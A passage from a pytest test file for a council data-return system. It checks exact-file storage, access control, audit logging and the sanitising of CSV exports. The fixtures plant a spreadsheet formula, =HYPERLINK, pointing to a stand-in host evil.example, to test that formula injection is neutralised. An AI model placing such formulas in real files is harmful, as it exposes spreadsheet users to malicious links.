    # A council workbook: the return, and a hidden sheet with a live link (hidden sheets are not read).
    content = workbook(("Return", [ADVICE, ["Camden", "2025-26 Q1", "fine", *ADVICE_FIGURES]]),
                       ("Old", [["=HYPERLINK(\"http://evil.example\",\"figures\")"]]), hidden=("Old",))
    result = store_file(tmp_db, "camden.xlsx", content, "uploader@example.org", today=today)
    assert result.status == "stored", result.report.errors
    # A row stored before formulas were refused, as an older database may hold it.
    with tmp_db.transaction() as cursor:
        cursor.execute("UPDATE return_rows SET notes = ? WHERE submission_id = ?",
                       ['=HYPERLINK("http://evil.example","notes")', result.submission_id])
    chair, camden = local_operator("chair"), User("dsco@camden.example", Role.DSCO, "202")
    exact_name, exact = service.exact_original(tmp_db, chair, result.submission_id)
    assert exact_name == "camden.xlsx" and exact == content
    assert b"<f>HYPERLINK" in zipfile.ZipFile(io.BytesIO(exact)).read("xl/worksheets/sheet2.xml")  # the control
    for user in (chair, camden):
        name, clean = service.original_file(tmp_db, user, result.submission_id)
        text = clean.decode("utf-8-sig")
        assert name.endswith(".csv") and not clean.startswith(b"PK")  # never the workbook itself
        assert text.splitlines()[0] == ",".join(ADVICE)
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[1][:3] == ["202", "2025-26 Q1", "'=HYPERLINK(\"http://evil.example\",\"notes\")"]  # text, not run
        assert rows[1][3:] == [str(figure) for figure in ADVICE_FIGURES] + [""] * ADVICE_OPTIONAL_BLANK
    # The stored copy is a return again: it validates to the same figures (after the note is fixed).
    again = validate("again.csv", clean.replace(b"'=HYPERLINK", b"HYPERLINK"), today=today)
    assert again.ok and again.rows[0].values == result.report.rows[0].values
    with pytest.raises(AccessDenied):
        service.exact_original(tmp_db, camden, result.submission_id)
    assert tmp_db.scalar("SELECT count(*) FROM audit_log WHERE action = 'original file taken'") == 1


def test_the_exact_file_comes_only_from_the_command_line_and_a_bad_path_audits_nothing(benchmark_cli, tmp_path,
                                                                                        today):
    database = tmp_path / "x.duckdb"
    upload = tmp_path / "camden.csv"
    upload.write_bytes(advice_csv(ADVICE_ROW))
    assert benchmark_cli("import", str(upload), db=database).returncode == 0
    bad = benchmark_cli("history", "--original", "1", "--out", str(tmp_path / "missing" / "x.csv"), db=database)
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1 and "cannot write" in bad.stderr
    missing = benchmark_cli("history", "--original", "99", "--out", str(tmp_path / "none.csv"), db=database)
    assert missing.returncode == 2 and "no submission 99" in missing.stderr and not (tmp_path / "none.csv").exists()
    done = benchmark_cli("history", "--original", "1", "--out", str(tmp_path / "exact.csv"), db=database)
    assert done.returncode == 0 and (tmp_path / "exact.csv").read_bytes() == upload.read_bytes()
    from benchmark.db import open_database

    assert open_database(database).scalar("SELECT count(*) FROM audit_log WHERE action = 'original file taken'") == 1
